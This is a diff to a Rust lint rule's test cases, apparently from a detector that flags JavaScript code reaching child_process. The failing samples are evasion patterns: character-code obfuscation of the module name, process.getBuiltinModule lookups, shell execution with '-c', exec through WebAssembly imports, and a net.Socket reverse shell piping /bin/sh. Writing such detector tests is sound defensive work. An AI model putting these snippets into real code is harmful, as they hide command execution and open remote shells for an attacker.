@@ -20,9 +20,12 @@ crate::declare_rule! {
            "const a = [99, 104, 105, 108, 100, 95, 112, 114, 111, 99, 101, 115, 115].map((c) => String.fromCharCode(c)).join(''); const cp = require(a); cp[['sp', 'awn'].join('')](dst, [])",
            "const n = [99, 104, 105, 108, 100, 95, 112, 114, 111, 99, 101, 115, 115].map(function (c) { return String.fromCharCode(c) }).join(''); require(n).exec(x)",
            "import { spawn } from 'node:child_process'; spawn('sh', ['-c', x])",
+           "const cp = process.getBuiltinModule(['child', 'process'].join('_')); cp.execFile('/bin/sh', ['-c', x])",
+           "const cp = process.getBuiltinModule?.('node:child_process'); cp.exec(x)",
            "const cp = require('child_process'); let mem; const imports = { env: { run(p, n) { cp.exec(Buffer.from(mem.buffer, p, n).toString()) } } }; WebAssembly.instantiate(bytes, imports)",
            "const net = require('net'); const {spawn} = require('child_process'); const c = new net.Socket(); c.connect(4444, h, () => { const sh = spawn('/bin/sh', []); c.pipe(sh.stdin); sh.stdout.pipe(c); });"],
     pass: ["const cp = { exec() {} }; cp.exec('x')",
+           "const fs = process.getBuiltinModule('fs'); fs.readFileSync(p)",
            "const a = [99, 104, 105, 108, 100, 95, 112, 114, 111, 99, 101, 115, 115].map((c) => String.fromCharCode(c + 1)).join(''); require(a).exec(x)", "// require('child_process').exec(x)", "const s = 'child_process.exec is documented here'"],
 }
 
